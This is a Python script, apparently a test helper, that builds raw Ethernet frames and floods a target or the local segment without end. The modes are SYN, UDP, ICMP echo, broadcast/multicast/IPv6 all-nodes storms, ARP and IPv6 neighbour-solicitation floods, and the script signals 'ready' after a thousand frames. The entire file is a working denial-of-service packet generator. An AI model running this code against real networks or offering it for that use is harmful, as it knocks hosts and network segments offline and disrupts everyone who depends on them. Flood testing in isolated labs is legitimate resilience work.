# Sends one kind of flood from eth0 until it is killed: KIND MAC ADDRESS ADDRESS6 TARGET. Says `ready` after the first thousand.
import os, socket, struct, sys

kind, mac_text, address, address6, target = sys.argv[1:6]
mac = bytes.fromhex(mac_text.replace(":", ""))
gateway = bytes.fromhex("ee" * 6)
own, own6 = socket.inet_aton(address), socket.inet_pton(socket.AF_INET6, address6)
far = socket.inet_aton(target)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 0))


def total(data):
    n = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    n = (n & 0xFFFF) + (n >> 16)
    return ~((n & 0xFFFF) + (n >> 16)) & 0xFFFF


def ip(to, protocol, body):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0) + own + to
    return head[:10] + struct.pack("!H", total(head)) + head[12:] + body


def ip6(source, to, protocol, body):
    return struct.pack("!IHBB", 6 << 28, len(body), protocol, 255) + source + to + body


def datagram(to, port):
    return ip(to, 17, struct.pack("!HHHH", 1024 + port % 60000, port, 12, 0) + b"none")


def syn(n):
    port = 1 + n % 65535
    body = struct.pack("!HHIIBBHHH", 1024 + n % 60000, port, n, 0, 5 << 4, 2, 1024, 0, 0)
    check = total(own + far + struct.pack("!HH", 6, len(body)) + body)
    return gateway + mac + b"\x08\x00" + ip(far, 6, body[:16] + struct.pack("!H", check) + body[18:])


def udp(n):
    return gateway + mac + b"\x08\x00" + datagram(far, 1 + n * 7919 % 65535)


def stream(n):
    return gateway + mac + b"\x08\x00" + datagram(far, 9)


def echo(n):
    head = struct.pack("!BBHHH", 8, 0, 0, n % 65536, 1)
    return gateway + mac + b"\x08\x00" + ip(far, 1, head[:2] + struct.pack("!H", total(head)) + head[4:])


def storm(n):
    port = 1 + n % 65535
    if n % 3 == 0:
        return b"\xff" * 6 + mac + b"\x08\x00" + datagram(b"\xff" * 4, port)
    if n % 3 == 1:
        group = socket.inet_aton("239.1.%d.%d" % (n // 250 % 250, n % 250))
        return b"\x01\x00\x5e\x01\x01\x01" + mac + b"\x08\x00" + datagram(group, port)
    every = socket.inet_pton(socket.AF_INET6, "ff02::1")
    body = struct.pack("!HHHH", 1024, port, 12, 0xFFFF) + b"none"
    return b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + ip6(own6, every, 17, body)


def arp(n):
    who = socket.inet_aton("10.%d.%d.9" % (90 + n // 250 % 100, n % 250))
    ask = struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + mac + who + bytes(6) + socket.inet_aton("169.254.1.1")
    return b"\xff" * 6 + mac + b"\x08\x06" + ask


def nd(n):
    who = socket.inet_pton(socket.AF_INET6, "fe80::%x:%x" % (1 + n // 65536 % 65535, n % 65536))
    to = socket.inet_pton(socket.AF_INET6, "ff02::1:ff00:1")
    ask = struct.pack("!BBHI", 135, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, "fe80::1") + b"\x01\x01" + mac
    check = total(who + to + struct.pack("!II", len(ask), 58) + ask)
    return b"\x33\x33\xff\x00\x00\x01" + mac + b"\x86\xdd" + ip6(who, to, 58, ask[:2] + struct.pack("!H", check) + ask[4:])


frame = {"syn": syn, "udp": udp, "stream": stream, "echo": echo, "storm": storm, "arp": arp, "nd": nd}[kind]
n = 0
while True:
    try:
        link.send(frame(n))
    except OSError:
        pass
    n += 1
    if n == 1000:
        os.write(1, b"ready\n")
